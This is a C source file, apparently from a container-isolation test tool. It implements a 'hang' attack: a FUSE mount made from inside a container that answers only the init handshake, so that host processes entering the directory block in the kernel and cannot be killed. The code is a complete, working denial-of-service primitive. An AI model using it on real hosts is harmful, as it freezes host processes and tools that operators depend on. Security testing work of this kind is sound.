/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* hang DIRECTORY: a file system of the container's own that takes every question and answers none. Whoever looks there waits
 * in the kernel, and not even being killed ends that. */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <unistd.h>

int hang_main(int argc, char **argv)
{
	static char request[1 << 17];
	const struct fuse_in_header *header = (const void *)request;
	char options[100];
	int fd = open("/dev/fuse", O_RDWR | O_CLOEXEC);

	if (argc < 2) {
		fprintf(stderr, "usage: inside hang DIRECTORY\n");
		return 2;
	}
	snprintf(options, sizeof(options), "fd=%d,rootmode=40000,user_id=0,group_id=0,allow_other", fd);
	if (fd < 0 || mount("attack", argv[1], "fuse", MS_NOSUID | MS_NODEV, options) < 0) {
		fprintf(stderr, "inside: hang: %s\n", errno_name(errno));
		return 1;
	}
	if (fork() > 0)
		return 0;
	setsid();
	for (int i = 0; i < 3; i++)
		close(i);
	while (read(fd, request, sizeof(request)) > 0) {
		struct {
			struct fuse_out_header header;
			struct fuse_init_out init;
		} answer = { .header = { .len = sizeof(answer), .unique = header->unique },
			     .init = { .major = 7, .minor = 31, .max_write = 4096 } };

		if (header->opcode == FUSE_INIT && write(fd, &answer, sizeof(answer)) < 0)
			return 1;
	}
	return 0;
}
